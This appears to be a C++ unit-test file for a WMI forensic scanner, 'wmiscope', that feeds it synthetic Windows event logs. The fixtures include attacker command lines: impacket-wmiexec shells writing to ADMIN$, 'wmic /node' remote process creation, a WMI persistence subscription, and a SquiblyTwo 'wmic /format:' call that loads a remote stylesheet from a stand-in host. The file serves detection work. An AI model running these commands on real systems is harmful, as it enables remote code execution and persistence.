// SPDX-License-Identifier: Apache-2.0
//
// Whole scans over made events: how they are gathered into activities, and what the context says at
// the edges where its evidence is thin. Events are written as EVTX, read and judged like any other.
#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <map>
#include <set>

#include "tests/evtx_writer.h"
#include "tests/windows_events.h"
#include "wmiscope/scan.h"

namespace wmiscope {
namespace {

using namespace testkit;
using Events = std::vector<EventBuilder>;

constexpr const char* kWmiPrvSE = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe";
constexpr const char* kSecured = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding";
constexpr const char* kUnsecured = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding";
constexpr const char* kWmic = "C:\\Windows\\System32\\wbem\\WMIC.exe";
constexpr const char* kCmd = "C:\\Windows\\System32\\cmd.exe";

class Results : public Sink {
 public:
  void on_finding(const Finding& finding) override { findings.push_back(finding); }
  void on_activity(const Activity& activity) override { activities.push_back(activity); }
  void on_coverage(const Coverage& c) override { coverage = c; }

  std::vector<Finding> findings;
  std::vector<Activity> activities;
  Coverage coverage;

  const Activity& only() const {
    EXPECT_EQ(activities.size(), 1U);
    static const Activity kNone;
    return activities.empty() ? kNone : activities.front();
  }
};

std::string evtx(const Events& events) {
  EvtxWriter writer;
  for (const EventBuilder& event : events) EXPECT_TRUE(writer.add(event));
  return writer.write();
}

class Folder {
 public:
  Folder() {
    const auto* test = ::testing::UnitTest::GetInstance()->current_test_info();
    path_ = std::filesystem::temp_directory_path() /
            (std::string("wmiscope_") + test->test_suite_name() + "_" + test->name());
    std::filesystem::remove_all(path_);
    std::filesystem::create_directories(path_);
  }
  ~Folder() { std::filesystem::remove_all(path_); }

  void write(const std::string& name, const std::string& bytes) const {
    std::ofstream(path_ / name, std::ios::binary) << bytes;
  }
  std::string path() const { return path_.string(); }

 private:
  std::filesystem::path path_;
};

Results scan_path(const std::string& path, ScanOptions options = {}) {
  options.paths = {path};
  options.threads = 1;
  Results results;
  const auto outcome = scan(options, results);
  EXPECT_TRUE(outcome.has_value()) << outcome.error().message;
  return results;
}

// One file for each list of events.
Results scan_events(const std::vector<Events>& files, const ScanOptions& options = {}) {
  const Folder folder;
  for (std::size_t i = 0; i < files.size(); ++i) {
    folder.write(std::to_string(i) + ".evtx", evtx(files[i]));
  }
  return scan_path(folder.path(), options);
}

EventBuilder child(std::string_view at, std::string_view command, std::string_view logon_began) {
  return sysmon_1()
      .at(at)
      .image("C:\\Windows\\System32\\cmd.exe")
      .command_line(command)
      .user("EXAMPLE\\bob")
      .parent(kWmiPrvSE, kSecured, 3460)
      .logon(0xc93745, logon_began, 0);
}

EventBuilder logon(std::string_view at, std::string_view ip, std::uint64_t id = 0xc93745) {
  return security_4624().at(at).user("EXAMPLE\\bob").logon(id).source(ip, 55275);
}

EventBuilder wmic(std::string_view at, std::string_view command) {
  return sysmon_1()
      .at(at)
      .image(kWmic)
      .original_file_name("wmic.exe")
      .command_line(command)
      .user("EXAMPLE\\bob")
      .parent(kCmd, "cmd.exe", 900)
      .logon(0x51f2a, "2026-11-01T09:00:00Z", 1);
}

std::set<std::string> purposes(const Activity& activity) {
  std::set<std::string> words;
  for (const Purpose& purpose : activity.purposes) words.insert(purpose.purpose);
  return words;
}

bool has_reason(const Activity& activity, std::string_view code) {
  return std::ranges::any_of(activity.origin.why,
                             [&](const Reason& reason) { return reason.code == code; });
}

std::size_t count_role(const Activity& activity, std::string_view role) {
  return static_cast<std::size_t>(std::ranges::count_if(
      activity.processes, [&](const ActivityProcess& p) { return p.role == role; }));
}

TEST(Activities, RemoteFromOneSysmonRecord) {
  const Results r =
      scan_events({{child("2026-11-01T10:00:01Z", "cmd.exe /c whoami", "2026-11-01T10:00:00Z")}});
  const Activity& a = r.only();
  EXPECT_EQ(a.vector, "wmi-process-create");
  EXPECT_EQ(a.origin.kind, OriginKind::kRemote);
  EXPECT_EQ(a.origin.confidence, Confidence::kMedium);
  EXPECT_TRUE(has_reason(a, "young-logon"));
  EXPECT_EQ(a.user, "EXAMPLE\\bob");
  EXPECT_TRUE(purposes(a).contains("lateral-movement"));
  EXPECT_TRUE(purposes(a).contains("account-recon"));
  ASSERT_EQ(r.findings.size(), 1U);
  EXPECT_EQ(r.findings[0].activity, a.id);
  EXPECT_EQ(a.findings, std::vector<std::string>{r.findings[0].id});
  EXPECT_EQ(a.id.size(), 32U);
  EXPECT_EQ(r.coverage.activities_total, 1U);
}

TEST(Activities, LogonInAnotherFileConfirms) {
  const Results r = scan_events({
      {child("2026-11-01T10:00:06Z", "cmd.exe /c dir", "2026-11-01T10:00:00Z")},
      {logon("2026-11-01T10:00:00Z", "192.0.2.9"), logon("2026-11-01T09:59:59Z", "192.0.2.9", 7)},
  });
  const Activity& a = r.only();
  EXPECT_EQ(a.origin.kind, OriginKind::kRemote);
  EXPECT_EQ(a.origin.confidence, Confidence::kHigh);
  EXPECT_EQ(a.origin.source_ip, "192.0.2.9");
  EXPECT_EQ(a.origin.logon_id, "0xc93745");
  EXPECT_EQ(a.origin.logon_type, 3U);
  // Its own logon and the one of the same connection.
  EXPECT_EQ(a.evidence_total, 3U);
}

TEST(Activities, NoContextIsNone) {
  ScanOptions options;
  options.context = false;
  const Results r = scan_events(
      {{child("2026-11-01T10:00:01Z", "cmd.exe /c whoami", "2026-11-01T10:00:00Z")}}, options);
  EXPECT_TRUE(r.activities.empty());
  ASSERT_EQ(r.findings.size(), 1U);
  EXPECT_TRUE(r.findings[0].activity.empty());
}

TEST(Activities, CallerAndChildOfOneHostAreOne) {
  const Results r = scan_events({{
      wmic("2026-11-01T10:00:00Z", "wmic process call create \"calc.exe /x\""),
      child("2026-11-01T10:00:00.088Z", "calc.exe  /x", "2026-11-01T09:00:00Z"),
  }});
  const Activity& a = r.only();
  EXPECT_EQ(a.vector, "wmic-local");
  EXPECT_EQ(a.origin.kind, OriginKind::kLocal);
  EXPECT_EQ(count_role(a, "caller"), 1U);
  EXPECT_EQ(count_role(a, "main"), 1U);
  EXPECT_TRUE(purposes(a).contains("code-execution"));
  EXPECT_FALSE(purposes(a).contains("lateral-movement"));
  for (const Finding& finding : r.findings) EXPECT_EQ(finding.activity, a.id);
  EXPECT_EQ(r.findings.size(), 2U);
}

// A WinRM logon is 0 to 3 s old when it runs wmic: the caller decides, not the age.
TEST(Activities, WinRmIsLocalByItsCaller) {
  const Results r = scan_events({{
      wmic("2026-11-01T10:00:01Z", "wmic process call create notepad.exe")
          .parent("C:\\Windows\\System32\\wsmprovhost.exe", "wsmprovhost.exe -Embedding", 800)
          .logon(0xaaaa, "2026-11-01T10:00:00Z", 0),
      child("2026-11-01T10:00:02Z", "notepad.exe", "2026-11-01T10:00:00Z")
          .logon(0xaaaa, "2026-11-01T10:00:00Z", 0),
  }});
  EXPECT_EQ(r.only().origin.kind, OriginKind::kLocal);
}

TEST(Activities, RunAsOnTheDesktopIsLocal) {
  const Results r = scan_events({{child("2026-11-01T10:00:01Z", "cmd.exe /c dir", "")
                                      .user("EXAMPLE\\admin")
                                      .logon(0xbeef, "2026-11-01T10:00:00Z", 2)}});
  EXPECT_EQ(r.only().origin.kind, OriginKind::kLocal);
  EXPECT_TRUE(has_reason(r.only(), "desktop-session"));
}

TEST(Activities, ClockSetBackTellsNothing) {
  const Results r =
      scan_events({{child("2026-11-01T10:00:00Z", "cmd.exe /c dir", "2026-11-01T15:00:00Z")}});
  EXPECT_EQ(r.only().origin.kind, OriginKind::kUnknown);
  EXPECT_TRUE(has_reason(r.only(), "clock-set"));
}

TEST(Activities, OldLogonInSessionZeroIsUnknown) {
  const Results r =
      scan_events({{child("2026-11-01T10:00:07Z", "cmd.exe /c dir", "2026-11-01T10:00:00Z")}});
  EXPECT_EQ(r.only().origin.kind, OriginKind::kUnknown);
}

TEST(Activities, LogonBeforeABootIsAnother) {
  const Results r = scan_events({{
      logon("2026-11-01T08:00:00Z", "192.0.2.9"),
      EventBuilder("Security", "Microsoft-Windows-Security-Auditing", 4608)
          .at("2026-11-01T09:00:00Z"),
      child("2026-11-01T10:00:07Z", "cmd.exe /c dir", "2026-11-01T10:00:00Z"),
  }});
  EXPECT_EQ(r.only().origin.kind, OriginKind::kUnknown);
  EXPECT_TRUE(r.only().origin.source_ip.empty());
}

TEST(Activities, LogonThatEndedIsAnother) {
  const Results r = scan_events({{
      logon("2026-11-01T08:00:00Z", "192.0.2.9"),
      security_4634().at("2026-11-01T08:01:00Z").data("TargetLogonId", "0xc93745"),
      child("2026-11-01T10:00:07Z", "cmd.exe /c dir", "2026-11-01T10:00:00Z"),
  }});
  EXPECT_EQ(r.only().origin.kind, OriginKind::kUnknown);
}

TEST(Activities, HostsOfOneNameInTwoDomainsStayApart) {
  const Results r = scan_events({{
      logon("2026-11-01T10:00:00Z", "192.0.2.9").computer("WS01.a.example"),
      child("2026-11-01T10:00:05Z", "cmd.exe /c dir", "2026-11-01T10:00:00Z")
          .computer("WS01.b.example"),
  }});
  EXPECT_EQ(r.only().origin.kind, OriginKind::kUnknown);
  EXPECT_EQ(r.only().host, "WS01.b.example");
}

// A name without a domain is the one host of that name.
TEST(Activities, HostWithoutItsDomainIsTheSame) {
  const Results r = scan_events({{
      logon("2026-11-01T10:00:00Z", "192.0.2.9").computer("WS01"),
      child("2026-11-01T10:00:05Z", "cmd.exe /c dir", "2026-11-01T10:00:00Z")
          .computer("WS01.b.example"),
  }});
  EXPECT_EQ(r.only().origin.kind, OriginKind::kRemote);
}

TEST(Activities, TenHoursInOneShellAreOne) {
  const std::string redirect = " 1> \\\\127.0.0.1\\ADMIN$\\__1793527200.25 2>&1";
  const Results r = scan_events({{
      child("2026-11-01T10:00:01Z", "cmd.exe /Q /c cd \\" + redirect, "2026-11-01T10:00:00Z"),
      child("2026-11-01T20:00:01Z", "cmd.exe /Q /c whoami" + redirect, "2026-11-01T20:00:00Z")
          .logon(0xd00d, "2026-11-01T20:00:00Z", 0),
  }});
  const Activity& a = r.only();
  EXPECT_EQ(a.tool, "impacket-wmiexec");
  EXPECT_EQ(count_role(a, "main"), 2U);
  EXPECT_EQ(a.end.text, "2026-11-01T20:00:01.0000000Z");
  EXPECT_EQ(r.findings.size(), 2U);
}

TEST(Activities, RenamedWmicIsWmic) {
  const Results r = scan_events(
      {{wmic("2026-11-01T10:00:00Z", "svc.exe os get caption").image("C:\\Users\\bob\\svc.exe")}});
  EXPECT_EQ(r.only().vector, "wmic-local");
  EXPECT_TRUE(purposes(r.only()).contains("host-recon"));
}

TEST(Activities, ParentWhoseStartIsMissingIsNamed) {
  const Results r =
      scan_events({{child("2026-11-01T10:00:01Z", "cmd.exe /c dir", "2026-11-01T10:00:00Z")}});
  EXPECT_EQ(count_role(r.only(), "ancestor"), 1U);
  EXPECT_EQ(r.only().processes.back().command_line, kSecured);
}

// What started below a child stays with it, though the child is long gone.
TEST(Activities, DescendantsBelongToTheirShell) {
  const Results r = scan_events({{
      child("2026-11-01T10:00:01Z", "cmd.exe /c a.bat", "2026-11-01T10:00:00Z")
          .process_id(500)
          .process_began("2026-11-01T10:00:01Z"),
      sysmon_5().at("2026-11-01T10:00:02Z").data("ProcessId", "500"),
      sysmon_1()
          .at("2026-11-01T10:05:00Z")
          .image("C:\\Windows\\System32\\whoami.exe")
          .command_line("whoami /priv")
          .parent(kCmd, "cmd.exe /c a.bat", 500, "2026-11-01T10:00:01Z"),
  }});
  EXPECT_EQ(count_role(r.only(), "child"), 1U);
  EXPECT_TRUE(purposes(r.only()).contains("account-recon"));
}

std::vector<std::string> ids(const Results& r) {
  std::vector<std::string> all;
  for (const Activity& a : r.activities) all.push_back(a.id + " " + a.summary);
  return all;
}

Events incident() {
  return {
      logon("2026-11-01T10:00:00Z", "192.0.2.9").record_id(11),
      child("2026-11-01T10:00:05Z", "cmd.exe /c dir", "2026-11-01T10:00:00Z").record_id(21),
      wmic("2026-11-01T11:00:00Z", "wmic os get caption").record_id(22),
  };
}

TEST(Activities, OrderAndFilesDoNotMatter) {
  Events events = incident();
  const auto expected = ids(scan_events({events}));
  ASSERT_EQ(expected.size(), 2U);
  std::ranges::reverse(events);
  EXPECT_EQ(ids(scan_events({events})), expected);
  EXPECT_EQ(ids(scan_events({{events[0]}, {events[1]}, {events[2]}})), expected);
}

// A zip with one stored member (PKWARE APPNOTE 4.3).
class StoredZip {
 public:
  StoredZip(const std::string& name, const std::string& bytes) {
    const std::string shared = number(20, 2) + number(0, 2) + number(0, 2) + number(0, 4) +
                               number(crc(bytes), 4) + number(bytes.size(), 4) +
                               number(bytes.size(), 4) + number(name.size(), 2) + number(0, 2);
    zip_ = "PK\3\4" + shared + name + bytes;
    const std::size_t directory = zip_.size();
    const std::string entry = "PK\1\2" + number(20, 2) + shared + number(0, 2) + number(0, 2) +
                              number(0, 2) + number(0, 4) + number(0, 4) + name;
    zip_ += entry + "PK\5\6" + number(0, 4) + number(1, 2) + number(1, 2) +
            number(entry.size(), 4) + number(directory, 4) + number(0, 2);
  }
  const std::string& bytes() const { return zip_; }

 private:
  static std::string number(std::uint64_t n, std::size_t size) {
    std::string out;
    for (; size > 0; --size, n >>= 8) out += static_cast<char>(n & 0xFF);
    return out;
  }
  static std::uint32_t crc(const std::string& bytes) {
    std::uint32_t value = 0xFFFFFFFF;
    for (const char c : bytes) {
      value ^= static_cast<unsigned char>(c);
      for (int bit = 0; bit < 8; ++bit) value = value >> 1 ^ ((value & 1) != 0 ? 0xEDB88320U : 0U);
    }
    return ~value;
  }
  std::string zip_;
};

TEST(Activities, FolderAndZipAreEqual) {
  const std::string bytes = evtx(incident());
  const Folder folder;
  folder.write("Security.evtx", bytes);
  const auto plain = ids(scan_path(folder.path()));
  const Folder other;
  std::filesystem::remove(folder.path() + "/Security.evtx");
  other.write("triage.zip", StoredZip("Security.evtx", bytes).bytes());
  const Results zipped = scan_path(other.path());
  EXPECT_EQ(ids(zipped), plain);
  ASSERT_FALSE(zipped.activities.empty());
  EXPECT_EQ(zipped.activities[0].evidence[0].source.member, "Security.evtx");
}

TEST(Activities, DoubledRecordsCountOnce) {
  const Events events = incident();
  const Results r = scan_events({events, events});
  EXPECT_EQ(r.activities.size(), 2U);
  for (const Activity& a : r.activities) EXPECT_LE(a.evidence_total, 2U) << a.summary;
}

EventBuilder part(EventBuilder event, std::string_view at, std::string_view operation) {
  return event.at(at).data("Operation", operation).data("User", "EXAMPLE\\bob");
}

Events triad(std::string_view minute, std::string_view operation) {
  const std::string at = "2026-11-01T10:" + std::string(minute);
  return {
      part(sysmon_20(), at + ":00Z", operation)
          .data("Name", " \"Up\"")
          .data("Type", "Command Line")
          .data("Destination", " \"C:\\\\t\\\\a.exe %ProcessId%\""),
      part(sysmon_21(), at + ":01Z", operation)
          .data("Consumer", " \"CommandLineEventConsumer.Name=\\\"Up\\\"\"")
          .data("Filter", " \"__EventFilter.Name=\\\"Up\\\"\""),
      part(sysmon_19(), at + ":16Z", operation)
          .data("Name", " \"Up\"")
          .data("Query", " \"SELECT * FROM Win32_ProcessStartTrace\""),
  };
}

TEST(Activities, SubscriptionWithFiringAndDeletionIsOne) {
  Events events = triad("00", "Created");
  events.push_back(sysmon_1()
                       .at("2026-11-01T10:10:00Z")
                       .image("C:\\t\\a.exe")
                       .command_line("C:\\t\\a.exe 4242")
                       .user("NT AUTHORITY\\SYSTEM")
                       .parent(kWmiPrvSE, kUnsecured, 900)
                       .logon(0x3e7, "", 0));
  for (const EventBuilder& gone : triad("20", "Deleted")) events.push_back(gone);
  const Results r = scan_events({events});
  const Activity& a = r.only();
  EXPECT_EQ(a.vector, "command-line-consumer");
  ASSERT_TRUE(a.subscription.has_value());
  EXPECT_EQ(a.subscription->filter.name, "Up");
  EXPECT_EQ(a.subscription->filter.kind, "process-start");
  EXPECT_EQ(a.subscription->consumer.class_name, "CommandLineEventConsumer");
  EXPECT_EQ(a.subscription->consumer.payload, "C:\\t\\a.exe %ProcessId%");
  EXPECT_EQ(a.subscription->bound, true);
  EXPECT_EQ(a.subscription->creator, "EXAMPLE\\bob");
  EXPECT_EQ(a.subscription->fired.size(), 1U);
  EXPECT_TRUE(a.subscription->created.known());
  EXPECT_TRUE(a.subscription->deleted.known());
  EXPECT_TRUE(purposes(a).contains("persistence"));
  EXPECT_EQ(a.origin.kind, OriginKind::kUnknown);
}

TEST(Activities, NameMadeAnewIsAnotherSubscription) {
  Events events = triad("00", "Created");
  for (const EventBuilder& gone : triad("20", "Deleted")) events.push_back(gone);
  for (const EventBuilder& again : triad("40", "Created")) events.push_back(again);
  const Results r = scan_events({events});
  ASSERT_EQ(r.activities.size(), 2U);
  EXPECT_TRUE(r.activities[0].subscription->deleted.known());
  EXPECT_FALSE(r.activities[1].subscription->deleted.known());
}

TEST(Activities, ProgramJustBeforeIsTheCreator) {
  Events events = {sysmon_1()
                       .at("2026-11-01T09:59:59.900Z")
                       .image("C:\\Users\\bob\\ghost.exe")
                       .command_line("ghost.exe")
                       .user("EXAMPLE\\bob")
                       .logon(0x51f2a, "2026-11-01T09:00:00Z", 2)};
  for (const EventBuilder& made : triad("00", "Created")) events.push_back(made);
  const Results r = scan_events({events});
  EXPECT_EQ(r.only().origin.kind, OriginKind::kLocal);
  EXPECT_TRUE(has_reason(r.only(), "creator-before"));
  EXPECT_EQ(count_role(r.only(), "caller"), 1U);
}

TEST(Activities, WmicThatMakesASubscriptionIsPartOfIt) {
  Events events = {wmic("2026-11-01T09:59:59Z",
                        "wmic /namespace:\\\\root\\subscription PATH __EventFilter CREATE "
                        "Name=\"Up\", Query=\"SELECT * FROM Win32_ProcessStartTrace\"")};
  for (const EventBuilder& made : triad("00", "Created")) events.push_back(made);
  const Results r = scan_events({events});
  EXPECT_EQ(r.only().vector, "command-line-consumer");
  EXPECT_EQ(r.only().origin.kind, OriginKind::kLocal);
}

TEST(Activities, DefaultSubscriptionsAreKnownToBeHarmless) {
  const Results r =
      scan_events({{wmi_5861().at("2026-11-01T10:00:00Z"), wmi_5860().at("2026-11-01T10:00:01Z")}});
  ASSERT_EQ(r.activities.size(), 2U);
  for (const Activity& a : r.activities) {
    EXPECT_FALSE(a.benign.empty()) << a.summary;
    EXPECT_LE(a.risk_score, 10) << a.summary;
  }
  EXPECT_EQ(r.coverage.activities_benign, 2U);
}

TEST(Activities, ClientOnAnotherMachineIsRemote) {
  const Results r =
      scan_events({{wmi_5858()
                        .at("2026-11-01T10:00:00Z")
                        .data("ClientMachine", "KALI")
                        .data("User", "EXAMPLE\\bob")
                        .data("Operation",
                              "Start IWbemServices::ExecQuery - root\\cimv2 : SELECT * FROM "
                              "Win32_UserAccount")
                        .data("ResultCode", "0x80041032")}});
  const Activity& a = r.only();
  EXPECT_EQ(a.vector, "wmi-query");
  EXPECT_EQ(a.origin.kind, OriginKind::kRemote);
  EXPECT_EQ(a.origin.source_host, "KALI");
  EXPECT_EQ(a.user, "EXAMPLE\\bob");
  EXPECT_TRUE(purposes(a).contains("account-recon"));
}

TEST(Activities, CallAndEffectOnTwoHostsAreLinked) {
  const Results r = scan_events({{
      wmic("2026-11-01T10:00:00Z", "wmic /node:WS02 process call create \"a.exe /z\""),
      child("2026-11-01T10:00:00.490Z", "a.exe /z", "2026-11-01T10:00:00Z")
          .computer("WS02.example.org"),
  }});
  ASSERT_EQ(r.activities.size(), 2U);
  const Activity& call = r.activities[0];
  const Activity& effect = r.activities[1];
  EXPECT_EQ(call.vector, "wmic-remote");
  EXPECT_EQ(call.origin.kind, OriginKind::kLocal);
  EXPECT_EQ(effect.origin.kind, OriginKind::kRemote);
  EXPECT_EQ(call.linked, std::vector<std::string>{effect.id});
  EXPECT_EQ(effect.linked, std::vector<std::string>{call.id});
  EXPECT_EQ(effect.origin.source_host, "ws01");
  EXPECT_EQ(effect.origin.source_user, "EXAMPLE\\bob");
}

TEST(Activities, CodeInsideTheHostIsAHijack) {
  const Results r = scan_events({{child("2026-11-01T10:00:01Z", "cmd.exe", "")
                                      .user("NT AUTHORITY\\NETWORK SERVICE")
                                      .logon(0x3e4, "", 0)}});
  EXPECT_EQ(r.only().vector, "provider-hijack");
}

TEST(Activities, OutputLeftInDumpFileIsDecoded) {
  const Results r =
      scan_events({{sysmon_13()
                        .at("2026-11-01T10:00:01Z")
                        .image("C:\\Windows\\system32\\wbem\\wmiprvse.exe")
                        .data("TargetObject",
                              "HKLM\\System\\CurrentControlSet\\Control\\CrashControl\\DumpFile")
                        .data("Details", "87,105,110,100,111,119,115,32,73,80")}});
  EXPECT_EQ(r.only().vector, "wmi-data-channel");
  ASSERT_EQ(r.only().decoded.size(), 1U);
  EXPECT_EQ(r.only().decoded[0].text, "Windows IP");
}

TEST(Activities, StyleSheetAndWhatItRunsAreOne) {
  const Results r = scan_events({{
      wmic("2026-11-01T10:00:00Z", "wmic os get /format:\"https://x.example/a.xsl\"")
          .process_id(700)
          .process_began("2026-11-01T10:00:00Z"),
      sysmon_1()
          .at("2026-11-01T10:00:02Z")
          .image(kCmd)
          .command_line("cmd.exe /c calc")
          .parent(kWmic, "wmic os get /format:\"https://x.example/a.xsl\"", 700,
                  "2026-11-01T10:00:00Z"),
      sysmon_3()
          .at("2026-11-01T10:00:01Z")
          .image(kWmic)
          .process_id(700)
          .process_began("2026-11-01T10:00:00Z"),
  }});
  const Activity& a = r.only();
  EXPECT_EQ(a.vector, "xsl-script");
  EXPECT_EQ(a.tool, "squiblytwo");
  EXPECT_EQ(a.evidence_total, 3U);
  EXPECT_TRUE(purposes(a).contains("command-and-control"));
}

// 4688 before version 2: the child names the machine alone, its console host the account.
TEST(Activities, ConsoleHostNamesTheAccount) {
  const Results r = scan_events({{
      logon("2026-11-01T10:00:00Z", "192.0.2.9"),
      security_4688_v1()
          .at("2026-11-01T10:00:01Z")
          .subject("EXAMPLE\\WS01$", "S-1-5-20", 0x3e4)
          .data("NewProcessId", "0x168")
          .data("NewProcessName", kCmd)
          .data("ProcessId", "0x5fc")
          .data("CommandLine", "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1793527200.2 2>&1"),
      security_4688_v1()
          .at("2026-11-01T10:00:01.1Z")
          .subject("EXAMPLE\\bob", "S-1-5-21-1-2-3-1111", 0xc93745)
          .data("NewProcessId", "0x9c0")
          .data("NewProcessName", "C:\\Windows\\System32\\conhost.exe")
          .data("ProcessId", "0x168"),
      // Another child of the same WmiPrvSE, without console: known by its creator's pid.
      security_4688_v1()
          .at("2026-11-01T10:00:01.5Z")
          .subject("EXAMPLE\\WS01$", "S-1-5-20", 0x3e4)
          .data("NewProcessId", "0x200")
          .data("NewProcessName", "C:\\Windows\\System32\\calc.exe")
          .data("ProcessId", "0x5fc")
          .data("CommandLine", "calc.exe"),
  }});
  ASSERT_FALSE(r.activities.empty());
  for (const Activity& a : r.activities) {
    EXPECT_EQ(a.user, "EXAMPLE\\bob") << a.summary;
    EXPECT_EQ(a.origin.kind, OriginKind::kRemote) << a.summary;
    EXPECT_EQ(a.origin.source_ip, "192.0.2.9") << a.summary;
  }
}

// NETWORK SERVICE starts processes for others that are no work of WMI (rdpclip.exe).
TEST(Activities, ServiceSubjectAloneIsNoProof) {
  const Results r =
      scan_events({{security_4688_v2()
                        .at("2026-11-01T10:00:01Z")
                        .subject("EXAMPLE\\WS01$", "S-1-5-20", 0x3e4)
                        .data("TargetUserName", "bob")
                        .data("TargetDomainName", "EXAMPLE")
                        .data("TargetLogonId", "0x777")
                        .data("ParentProcessName", "C:\\Windows\\System32\\svchost.exe")
                        .data("NewProcessName", "C:\\Windows\\System32\\rdpclip.exe")}});
  EXPECT_TRUE(r.activities.empty());
}

TEST(Activities, WindowSelectsActivitiesButNotWhatTheyKnow) {
  ScanOptions options;
  options.from_ticks = child("2026-11-01T10:00:02Z", "", "").ticks();
  const Events events = {
      logon("2026-11-01T10:00:00Z", "192.0.2.9"),
      child("2026-11-01T10:00:05Z", "cmd.exe /c dir", "2026-11-01T10:00:00Z"),
      wmic("2026-11-01T09:00:00Z", "wmic os get caption"),
  };
  const Results r = scan_events({events}, options);
  EXPECT_EQ(r.only().origin.source_ip, "192.0.2.9");
}

TEST(Activities, PowershellScriptBlock) {
  const Results r = scan_events(
      {{powershell_4104()
            .at("2026-11-01T10:00:00Z")
            .data("ScriptBlockText",
                  "Get-WmiObject -Namespace root\\SecurityCenter2 -Class AntiVirusProduct")}});
  EXPECT_EQ(r.only().vector, "powershell-wmi");
  EXPECT_EQ(r.only().origin.kind, OriginKind::kLocal);
  EXPECT_TRUE(purposes(r.only()).contains("antivirus-detection"));
}

}  // namespace
}  // namespace wmiscope
